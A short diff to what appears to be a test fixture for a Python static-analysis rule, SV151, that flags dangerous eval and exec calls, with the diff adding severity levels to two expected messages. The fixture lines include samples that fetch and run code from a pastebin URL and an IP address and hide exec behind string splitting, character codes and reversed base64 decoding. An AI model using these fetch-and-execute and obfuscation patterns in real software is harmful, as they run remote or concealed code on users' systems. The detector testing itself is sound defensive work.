@@ -8,7 +8,7 @@ eval(requests.get("https://pastebin.com/raw/abc").text)  # want "SV151: eval run
 payload = urlopen("http://203.0.113.9/s").read()
 exec(payload)  # want "SV151: exec runs downloaded code"
 e = getattr(builtins, 'ex' + 'ec')
-e(sys.stdin.read())  # want "SV151: exec runs code from user input"
+e(sys.stdin.read())  # want "medium SV151: exec runs code from user input"
 exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))  # want "SV151: exec runs code assembled from obfuscated pieces: import os"
 _ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
 exec((_)(b'==AsCUhDAQA1wE9KMrMKrwJe'))  # want "SV151: exec runs decoded data"
@@ -26,4 +26,4 @@ class Plugin:
         exec(code)  # want "SV151: exec runs downloaded code"
 
 def handler(expr):
-    return eval(expr)  # want "SV151: eval runs code from a variable"
+    return eval(expr)  # want "low SV151: eval runs code from a variable or expression built in the skill"
